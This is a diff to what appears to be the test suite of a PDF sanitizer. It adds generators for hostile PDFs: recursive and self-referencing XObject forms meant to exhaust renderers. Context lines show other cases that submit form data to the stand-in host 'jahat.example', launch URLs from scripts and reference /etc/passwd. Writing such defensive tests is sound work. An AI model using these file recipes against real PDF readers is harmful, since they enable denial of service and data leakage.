@@ -72,7 +72,7 @@ def rich_media(pdf: Pdf) -> None:
     annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([flash]))))
 
 
-def form(pdf: Pdf) -> None:
+def submitting_form(pdf: Pdf) -> None:
     field = Dictionary(
         FT=Name.Btn, T=String("kirim"), A=Dictionary(S=Name.SubmitForm, F=String("http://jahat.example"))
     )
@@ -83,9 +83,7 @@ def form(pdf: Pdf) -> None:
 
 def drawn_object(pdf: Pdf, **keys: object) -> Stream:
     """A form drawn by the page, carrying `keys` along."""
-    held = pdf.make_stream(
-        b"0 0 10 10 re f", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])}
-    )
+    held = form(pdf, b"0 0 10 10 re f")
     for key, value in keys.items():
         held[f"/{key}"] = value
     pdf.pages[0].obj.Resources.XObject = Dictionary(X=held)
@@ -164,6 +162,30 @@ def image_bomb(pdf: Pdf) -> None:
 
 def pixel_bomb(pdf: Pdf) -> None:
     image_object(pdf, 100_000, 100_000, zlib.compress(b"\0"))
+
+
+def form(pdf: Pdf, content: bytes, inner: Stream | None = None) -> Stream:
+    """A drawn form that may draw another, called X."""
+    held = pdf.make_stream(content, {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])})
+    if inner is not None:
+        held.Resources = Dictionary(XObject=Dictionary(X=inner))
+    return held
+
+
+def nested_drawings(pdf: Pdf) -> None:
+    """Ten forms in each other, each drawing the next ten times: ten thousand million rectangles."""
+    inner = form(pdf, b"0 0 9 9 re f")
+    for _ in range(10):
+        inner = form(pdf, b"/X Do\n" * 10, inner)
+    pdf.pages[0].obj.Resources.XObject = Dictionary(X=inner)
+    pdf.pages[0].obj.Contents = pdf.make_stream(b"q /X Do Q")
+
+
+def endless_drawing(pdf: Pdf) -> None:
+    held = form(pdf, b"q /X Do Q")
+    held.Resources = Dictionary(XObject=Dictionary(X=held))
+    pdf.pages[0].obj.Resources.XObject = Dictionary(X=held)
+    pdf.pages[0].obj.Contents = pdf.make_stream(b"q /X Do Q")
 
 
 def object_stream_bomb() -> bytes:
@@ -259,6 +281,8 @@ PDFS: Final = (
     HostileFile("enam-bom.pdf", altered(many_bombs), Refusal.BOMB),
     HostileFile("bom-gambar.pdf", altered(image_bomb), Refusal.BOMB),
     HostileFile("bom-piksel.pdf", altered(pixel_bomb), Refusal.BOMB),
+    HostileFile("bom-bentuk.pdf", altered(nested_drawings), Refusal.BOMB),
+    HostileFile("bentuk-tanpa-akhir.pdf", altered(endless_drawing), Refusal.BOMB),
     HostileFile("bom-daftar-objek.pdf", object_stream_bomb, Refusal.DAMAGED),
     HostileFile("skrip-pembuka.pdf", altered(open_script), REBUILT, b"app.launchURL"),
     HostileFile("skrip-halaman.pdf", altered(page_script), REBUILT, b"app.launchURL"),
@@ -272,7 +296,7 @@ PDFS: Final = (
     HostileFile("lampiran-di-sumber.pdf", altered(attachment_in_resources), REBUILT, b"DOS mode"),
     HostileFile("media.pdf", altered(rich_media), REBUILT, b"DOS mode"),
     HostileFile("tautan.pdf", altered(link), REBUILT, b"jahat.example"),
-    HostileFile("formulir-xfa.pdf", altered(form), REBUILT, b"jahat.example"),
+    HostileFile("formulir-xfa.pdf", altered(submitting_form), REBUILT, b"jahat.example"),
     HostileFile("acuan-luar.pdf", altered(reference_object), REBUILT, b"jahat.example"),
     HostileFile("aliran-luar.pdf", altered(external_stream), REBUILT, b"/etc/passwd"),
     HostileFile("postscript.pdf", altered(postscript_object), REBUILT, b"/PS"),
